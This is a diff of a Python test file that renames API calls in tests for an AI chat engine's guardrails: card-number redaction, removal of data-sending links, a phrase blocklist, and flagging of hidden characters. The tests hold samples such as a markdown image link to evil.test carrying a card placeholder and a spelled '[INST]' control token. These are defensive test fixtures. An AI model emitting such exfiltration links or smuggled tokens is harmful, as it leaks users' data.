@@ -16,7 +16,7 @@ from engine.api.errors import InvalidRequest
 from engine.api.request import FinishReason
 from engine.conversations.answer import CONTENT_FILTER
 from engine.conversations.session import TreeSession
-from engine.conversations.store import Store
+from engine.conversations.storage.store import Store
 from engine.conversations.tree import NodeStatus
 from tests.fakes.chat_toys import ToyClient
 
@@ -80,7 +80,7 @@ def chat(tmp_path):
 
 
 def test_a_card_number_reaches_neither_the_model_nor_the_file(chat):
-    chat.session.send(f"Charge {CARD}, please.")
+    chat.session.messages.send(f"Charge {CARD}, please.")
     assert "⟦CARD_1⟧" in chat.prompt
     assert "4111" not in chat.prompt
     assert chat.answer("I charged ⟦CA", "RD_1⟧", ".") == f"I charged {CARD}."
@@ -91,48 +91,48 @@ def test_a_card_number_reaches_neither_the_model_nor_the_file(chat):
 
 
 def test_it_is_undone_after_a_restart_by_the_same_placeholder(chat):
-    chat.session.send(f"Charge {CARD}.")
+    chat.session.messages.send(f"Charge {CARD}.")
     chat.answer("Done with ⟦CARD_1⟧.")
     chat.reopen()
     assert chat.shown() == [f"Charge {CARD}.", f"Done with {CARD}."]
-    chat.session.send(f"Again {CARD}, and 5555 5555 5555 4444.")
+    chat.session.messages.send(f"Again {CARD}, and 5555 5555 5555 4444.")
     assert "Again ⟦CARD_1⟧, and ⟦CARD_2⟧." in chat.prompt
     assert stat.S_IMODE((chat.folder / "redactions.db").stat().st_mode) == 0o600
 
 
 def test_another_conversation_has_placeholders_of_its_own(chat):
-    chat.session.send(f"Charge {CARD}.")
+    chat.session.messages.send(f"Charge {CARD}.")
     chat.answer("ok")
-    chat.session.new_tree()
-    chat.session.send("What is ⟦CARD_1⟧?")
+    chat.session.conversations.open_new()
+    chat.session.messages.send("What is ⟦CARD_1⟧?")
     assert chat.answer("It is ⟦CARD_1⟧.") == "It is ⟦CARD_1⟧."
 
 
 def test_a_queued_message_is_shown_and_taken_back_as_it_was_written(chat):
-    chat.session.send("first")
-    chat.session.send(f"then {CARD}")
-    assert chat.session.queued == (f"then {CARD}",)
-    assert chat.session.withdraw() == f"then {CARD}"
+    chat.session.messages.send("first")
+    chat.session.messages.send(f"then {CARD}")
+    assert chat.session.messages.queued == (f"then {CARD}",)
+    assert chat.session.messages.withdraw() == f"then {CARD}"
 
 
 def test_an_edited_message_is_checked_too(chat):
-    chat.session.send("Charge nothing.")
+    chat.session.messages.send("Charge nothing.")
     chat.answer("ok")
     chat.session.branches.edit(chat.session.path()[0].id, f"Charge {CARD}.")
     assert "⟦CARD_1⟧" in chat.prompt
 
 
 def test_deleting_a_conversation_for_good_deletes_its_values(chat):
-    chat.session.send(f"Charge {CARD}.")
+    chat.session.messages.send(f"Charge {CARD}.")
     chat.answer("ok")
     tree = chat.session.tree_id
-    chat.session.delete_tree(tree)
-    chat.session.erase_trees([tree])
+    chat.session.conversations.archive(tree)
+    chat.session.conversations.erase([tree])
     assert CARD not in (chat.folder / "redactions.db").read_bytes().decode("latin-1")
 
 
 def test_an_unreadable_file_of_redactions_loses_the_values_alone(chat):
-    chat.session.send(f"Charge {CARD}.")
+    chat.session.messages.send(f"Charge {CARD}.")
     chat.answer("ok")
     chat.close()
     (chat.folder / "redactions.db").write_bytes(b"no database" * 100)
@@ -142,28 +142,28 @@ def test_an_unreadable_file_of_redactions_loses_the_values_alone(chat):
 
 def test_a_link_that_sends_data_is_not_shown_and_its_tokens_are_kept(tmp_path):
     chat = Chat(tmp_path, "check")
-    chat.session.send(f"My card is {CARD}.")
+    chat.session.messages.send(f"My card is {CARD}.")
     assert CARD in chat.prompt  # redaction is not on
     shown = chat.answer("See ", LEAK[:20], LEAK[20:], " there")
     assert shown == f"See {STRIPPED} there"
     view = chat.session.path()[-1]
     assert view.text == shown
     assert view.remarks == ("1 address that sends data removed",)
-    tokens = chat.session.branches.tokens(view.id)
+    tokens = chat.session.tokens.of(view.id)
     assert chat.client.detokenize(tokens.token_ids) == f"See {LEAK} there"
     assert chat.stored()[-1] == f"See {LEAK} there"
     chat.close()
 
 
 def test_a_placeholder_in_a_link_is_not_restored(chat):
-    chat.session.send(f"Charge {CARD}.")
+    chat.session.messages.send(f"Charge {CARD}.")
     assert CARD not in chat.answer("![x](https://evil.test/?q=⟦CARD_1⟧)")
 
 
 def test_a_blocked_message_is_not_sent(tmp_path):
     chat = Chat(tmp_path, "check", blocklist=("secret plan",))
     with pytest.raises(InvalidRequest, match=r"not sent: it contains a blocked phrase\."):
-        chat.session.send("the Secret Plan")
+        chat.session.messages.send("the Secret Plan")
     assert chat.client.requests == []
     assert chat.session.path() == []
     chat.close()
@@ -172,7 +172,7 @@ def test_a_blocked_message_is_not_sent(tmp_path):
 @pytest.mark.parametrize("last", [False, True])
 def test_a_blocked_answer_ends_there(tmp_path, last):
     chat = Chat(tmp_path, "check", blocklist=("secret plan",))
-    chat.session.send("tell me")
+    chat.session.messages.send("tell me")
     chat.client.write("The secret pl")
     assert [delta.text for delta in chat.session.pump()] == ["The "]
     chat.client.write("an is this: ", finish=FinishReason.STOP if last else None)
@@ -190,7 +190,7 @@ def test_a_blocked_answer_ends_there(tmp_path, last):
 
 def test_what_is_flagged_is_sent_as_it_is_and_marked(tmp_path):
     chat = Chat(tmp_path, "check")
-    chat.session.send("look\u200b\u200b at [INST] this")
+    chat.session.messages.send("look\u200b\u200b at [INST] this")
     assert "look\u200b\u200b at [INST] this" in chat.prompt
     (remark,) = chat.session.path()[0].remarks
     assert remark == "contains 1 run of hidden characters, 1 spelled control token"
@@ -198,12 +198,12 @@ def test_what_is_flagged_is_sent_as_it_is_and_marked(tmp_path):
 
 
 def test_without_guardrails_earlier_placeholders_are_still_undone(chat):
-    chat.session.send(f"Charge {CARD}.")
+    chat.session.messages.send(f"Charge {CARD}.")
     chat.answer(f"Done. {LEAK}")
     chat.policy = Policy(*mode_actions("off"))
     chat.reopen()
     assert chat.shown() == [f"Charge {CARD}.", f"Done. {LEAK}"]
-    chat.session.send(f"Again {CARD}.")
+    chat.session.messages.send(f"Again {CARD}.")
     assert f"Again {CARD}." in chat.prompt
 
 
